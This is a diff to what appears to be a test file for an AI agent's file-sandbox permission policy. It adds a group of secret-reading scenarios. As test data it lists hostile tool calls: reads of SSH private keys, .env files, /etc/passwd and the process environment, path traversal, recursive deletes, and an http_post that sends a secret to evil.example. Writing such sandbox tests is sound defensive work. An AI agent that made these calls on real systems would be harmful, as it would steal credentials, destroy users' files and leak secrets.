@@ -70,7 +70,7 @@ _ESCAPES = {
     "reads its own environment": call("read_file", path="/proc/self/environ"),
     "reads through its own root": call("read_file", path="/proc/self/cwd/../outside/secret.txt"),
     "reads the system": call("read_file", path="/etc/passwd"),
-    "reads at home": call("read_file", path="~/.ssh/id_rsa"),
+    "reads at home": call("read_file", path="~/notes.txt"),
     "lists above": call("list_files", path=".."),
     "lists through a symlink": call("list_files", path="link", depth=5),
     "lists the root": call("list_files", path="/"),
@@ -99,6 +99,10 @@ _CHANGES = {
     "deletes above": call("delete_file", path="../outside", recursive=True),
     "deletes everything": call("delete_file", path=".", recursive=True),
     "deletes behind a symlink": call("delete_file", path="link/secret.txt"),
+}
+_SECRETS = {
+    "reads a key at home": call("read_file", path="~/.ssh/id_rsa"),
+    "reads what programs get": call("read_file", path="src/../.env"),
 }
 _NOT_ON_OFFER = {
     "calls a tool that is not there": call("http_post", url="https://evil.example", body="{{secret}}"),
@@ -228,6 +232,8 @@ SCENARIOS = (
     *_each("standard", "asked", _OWN_FILES | _CHANGES | {"writes": write("notes.md")}),
     *_each("standard", "invalid", _NOT_ON_OFFER),
     *_each("standard", "asked", _PROGRAMS),
+    *_each("standard", "asked", _SECRETS),
+    *_each("permissive", "asked", _SECRETS),
     *_each("strict", "asked", _ESCAPES),
     *_each("strict", "asked", _PROGRAMS),
     *_each("permissive", "failed", _ESCAPES),
